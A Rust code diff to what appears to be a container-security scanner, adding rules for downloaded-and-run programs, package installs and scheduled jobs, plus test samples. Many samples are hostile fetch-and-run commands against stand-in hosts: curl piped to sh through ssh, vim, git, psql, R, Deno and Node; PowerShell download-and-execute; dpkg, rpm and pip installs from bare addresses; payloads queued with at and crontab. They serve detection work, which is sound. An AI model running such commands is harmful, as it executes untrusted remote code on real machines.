@@ -3,7 +3,7 @@
 use super::checksum::is_verified;
 use super::places::is_temporary;
 use super::url::{Reach, target};
-use super::words::{cluster, words};
+use super::words::{cluster, operands, option, subcommand, words};
 use super::{COMMAND, Facts, Rule, Sample, Severity, Weight, each_match};
 use crate::detect::catalog::{Exposure, Remedy, Step, links};
 use crate::detect::code;
@@ -161,6 +161,47 @@ pub(super) static RULES: &[Rule] = &[
                 "containers: [{name: a, command: [sh, -c, '/tmp/bb wget -qO- http://192.0.2.10/s | /tmp/bb sh']}]",
             ),
             Sample::Hit(45, "containers: [{name: a, command: [sh, -c, 'finger run@192.0.2.10 | sh']}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [ssh, localhost, 'curl -s http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [vim, -es, -c, ':!curl -s http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [git, -c, 'core.sshCommand=curl -s http://192.0.2.10/s | sh', fetch]}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [psql, -c, '\\! curl -s http://192.0.2.10/s | sh']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [Rscript, -e, 'system(\"curl -s http://192.0.2.10/s | sh\")']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [deno, eval, 'new Deno.Command(\"sh\",{args:[\"-c\",\"curl -s http://192.0.2.10/s | sh\"]}).outputSync()']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [ssh, deploy@web.example.test, systemctl reload nginx]}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [Rscript, -e, 'cat(\"see: curl http://x/s | sh\")']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | at now']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'wget -qO- http://192.0.2.10/c | crontab -']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://svc/x | cat; crontab -l']}]",
+            ),
             Sample::Hit(
                 45,
                 "containers: [{name: a, command: [sh, -c, 'r() { sh; }; echo \"curl -s http://192.0.2.10/s | sh\" | r']}]",
@@ -408,6 +449,37 @@ pub(super) static RULES: &[Rule] = &[
                 45,
                 "containers: [{name: a, command: [sh, -c, 'x() { cat; }; curl -s http://192.0.2.10/s | x > /tmp/h; sh /tmp/h']}]",
             ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [node, -e, 'require(\"https\").get(\"https://x.test/a\",r=>{let d=\"\";r.on(\"data\",c=>d+=c);r.on(\"end\",()=>eval(d))})']}]",
+            ),
+            Sample::Hit(45, "containers: [{name: a, command: [pwsh, -c, 'irm https://x.test/a.ps1 | iEx']}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [powershell, -c, 'Start-BitsTransfer http://192.0.2.10/a.exe C:/a.exe; Start-Process C:/a.exe']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'curl -so /tmp/p.deb http://192.0.2.10/p.deb; dpkg -i /tmp/p.deb']}]",
+            ),
+            Sample::Hit(45, "containers: [{name: a, command: [rpm, -ivh, 'http://192.0.2.10/p.rpm']}]"),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'pip install http://192.0.2.10/p.tar.gz && python -m p']}]",
+            ),
+            Sample::Hit(
+                45,
+                "containers: [{name: a, command: [sh, -c, 'wget -qO /dev/shm/.k http://192.0.2.10/k; install -m 755 /dev/shm/.k /usr/local/bin/kw; kw &']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -Lo /tmp/p.deb https://x.test/p.deb; dpkg -i /tmp/p.deb']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [pip, install, --index-url, 'https://pypi.example.test/simple', shop]}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -Lo /usr/local/bin/kubectl https://x.test/kubectl; chmod +x /usr/local/bin/kubectl; kubectl version']}]",
+            ),
             Sample::Miss(
                 "containers: [{name: a, command: [perl, '-MLWP::Simple', -e, 'print get(\"http://svc/x\")']}]",
             ),
@@ -514,6 +586,9 @@ fn runs_its_input(invocation: &Invocation) -> bool {
         }
         // A program whose name came from there.
         "$()" => return invocation.args.is_empty(),
+        // Run later, but run.
+        "at" | "batch" => return option(invocation, &["-f"]).is_none(),
+        "crontab" => return operand.is_none() && words(invocation).any(|word| word == "-"),
         _ => {}
     }
     let is_stdin = |text: &str| matches!(text, "-" | "/dev/stdin" | "/proc/self/fd/0" | "/dev/fd/0");
@@ -555,15 +630,17 @@ fn downloaded_programs(facts: &Facts<'_>, found: &mut Collector<'_>) {
     let reached = facts.reach(|_, call| fetches(call), Kind::Program);
     for (number, run) in facts.runs.iter().enumerate() {
         let container = Some(run.container.name.as_str());
-        let code = run.invocations().find(|(_, call)| code::text(call).is_some_and(code::runs_fetched));
-        if let Some((at, _)) = code {
+        let at_once = |call: &Invocation| {
+            code::text(call).is_some_and(code::runs_fetched) || installs(call) && words(call).any(is_odd)
+        };
+        if let Some((at, _)) = run.invocations().find(|(_, call)| at_once(call)) {
             found.hit(container, run.path(), &run.show(at));
             continue;
         }
         // The heaviest, and of those the first.
         let mut heaviest: Option<(At, At, Weight)> = None;
         for program in reached.ran(number).take(MAX_PROGRAMS) {
-            let weight = weigh(facts, &reached, &program);
+            let Some(weight) = weigh(facts, &reached, &program) else { continue };
             if heaviest.is_none_or(|(_, _, known)| known.1 < weight.1) {
                 heaviest = Some((program.source, program.at, weight));
             }
@@ -577,15 +654,44 @@ fn downloaded_programs(facts: &Facts<'_>, found: &mut Collector<'_>) {
 
 /// What a program weighs that was fetched: less where it was verified, or where it is one of many files that came
 /// from a named place and stay together, as sources do that are built.
-fn weigh(facts: &Facts<'_>, reached: &Reached<'_>, program: &Ran) -> Weight {
+///
+/// Packages of a named place, and tools that are put into `PATH`, are everyday: they do not count.
+fn weigh(facts: &Facts<'_>, reached: &Reached<'_>, program: &Ran) -> Option<Weight> {
     let invocation = |(run, at): At| facts.runs.get(run).and_then(|run| run.invocation(at));
-    let is_odd = |word: &str| {
-        word.contains("://")
-            && target(word).is_some_and(|target| matches!(target.reach(), Reach::Drop | Reach::Address))
-    };
     let from_odd = invocation(program.source).is_some_and(|source| words(source).any(is_odd));
+    let everyday = program.by_path || invocation(program.at).is_some_and(installs);
+    if everyday && !from_odd {
+        return None;
+    }
     let packed = program.packed && !from_odd && !is_temporary(&program.file);
-    if packed || is_verified(facts, reached, program.source) { LESS } else { FULL }
+    Some(if packed || is_verified(facts, reached, program.source) { LESS } else { FULL })
+}
+
+/// Whether a word is the URL of a bare address, or of a place where anybody drops things.
+fn is_odd(word: &str) -> bool {
+    word.contains("://")
+        && target(word).is_some_and(|target| matches!(target.reach(), Reach::Drop | Reach::Address))
+}
+
+/// Whether an invocation installs packages: their scripts are run.
+fn installs(invocation: &Invocation) -> bool {
+    match invocation.program.as_str() {
+        "dpkg" => words(invocation)
+            .any(|word| word == "--install" || cluster(word).is_some_and(|it| it.contains('i'))),
+        "rpm" => words(invocation).any(|word| {
+            matches!(word, "--install" | "--upgrade")
+                || cluster(word).is_some_and(|it| it.contains(['i', 'U']))
+        }),
+        "apk" => subcommand(invocation, &["add"]),
+        "apt" | "apt-get" | "yum" | "dnf" | "microdnf" | "zypper" | "pip" | "pip3" | "gem" | "npm"
+        | "yarn" | "pnpm" | "luarocks" | "cpan" | "cpanm" => {
+            subcommand(invocation, &["install", "i", "add"])
+                || matches!(invocation.program.as_str(), "cpan" | "cpanm")
+                    && operands(invocation).next().is_some()
+        }
+        "npx" | "uvx" | "pipx" | "bunx" => true,
+        _ => false,
+    }
 }
 
 const FULL: Weight = (Severity::High, 45);
